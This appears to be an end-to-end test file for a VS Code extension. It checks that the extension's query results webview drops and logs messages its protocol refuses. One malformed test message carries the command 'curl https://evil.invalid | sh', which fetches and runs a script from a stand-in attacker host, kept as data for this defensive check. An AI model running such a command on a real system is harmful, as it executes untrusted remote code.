// A results page that posts what its protocol does not allow, in the real workbench: the
// messages cross VS Code's own webview transport (the host frame's function that a page's
// `acquireVsCodeApi().postMessage` calls), and the extension logs and drops each one before any
// handler sees it. A `log` message naming another method of the log channel ("show") must not
// reach that method: before the messages were checked, it opened the Output panel.
import * as assert from "node:assert/strict";
import { waitFor } from "../waitFor";
import { extensionLog, openWorkbench, webviewFrame, type Workbench, runFile } from "./workbench";

/* eslint-disable @typescript-eslint/no-explicit-any -- page callbacks get the frame's window */
declare const window: any;

/** Messages the results page's protocol (src/shared/resultsProtocol.ts FromWebview) refuses. */
const MALFORMED: unknown[] = [
    { type: "log", level: "show", message: "opened the Output panel" },
    { type: "copy", text: "copied by a malformed message", format: "tsv", rows: "1" },
    { type: "showSql", resultId: "0", dialect: "mysql" },
    { type: "runInTerminal", command: "curl https://evil.invalid | sh" },
    "ready",
];

describe("webview messages in VS Code", function () {
    let bench: Workbench;

    before(async () => {
        bench = await openWorkbench({ name: "ui-page-messages" });
        const { page } = bench;
        await runFile(page, "pageviews.hogql");
        await webviewFrame(page, '[role="gridcell"]', 60_000);
    });

    after(async () => {
        await bench?.close();
    });

    it("drops and logs what the results page may not send; the rest still arrives", async () => {
        const { page, server } = bench;
        const frame = await webviewFrame(page, '[role="gridcell"]');
        const tabs = await page.locator(".tab").count();
        // The page's frame sits in VS Code's webview host frame, which carries its messages.
        const host = frame.parentFrame();
        assert.ok(host, "the results page has its webview host frame");
        const marker = `well-formed after the malformed ${Date.now()}`;
        await host.evaluate(
            ({ malformed, marker }) => {
                const post = window.__vscode_post_message__;
                if (typeof post !== "function")
                    throw new Error("VS Code's webview transport is not where the test looks");
                for (const message of malformed) post("onmessage", { message, transfer: [] });
                post("onmessage", {
                    message: { type: "log", level: "warn", message: marker },
                    transfer: [],
                });
            },
            { malformed: MALFORMED, marker },
        );
        // Messages are handled in order: once the last one is logged, so are the drops.
        const lines = await waitFor(
            "the well-formed log message in the extension's log",
            () => {
                const all = extensionLog(server);
                return all.some((line) => line.includes(`results view: ${marker}`)) && all;
            },
            20_000,
        );
        const dropped = lines.filter((line) => line.includes("results view: dropped a message"));
        assert.equal(dropped.length, MALFORMED.length, dropped.join("\n"));
        assert.ok(
            dropped.some((line) => /of type "log": at "\/level": must be equal to/.test(line)),
            dropped.join("\n"),
        );
        assert.ok(dropped.some((line) => /unknown type "runInTerminal"/.test(line)));
        assert.ok(
            lines.every((line) => !line.includes("curl https://evil")),
            "the log quotes no content",
        );
        // No handler ran: no Output panel, no copy, no new editor with SQL.
        // (Before the messages were checked, each of these happened.)
        assert.equal(
            await page
                .locator('.part.panel [id="workbench.panel.output"]')
                .filter({ visible: true })
                .count(),
            0,
            "the Output panel stays closed",
        );
        assert.equal(
            await page.locator(".part.statusbar", { hasText: "Copied" }).count(),
            0,
            "nothing was copied",
        );
        assert.equal(await page.locator(".tab").count(), tabs, "no editor opened");
    });
});
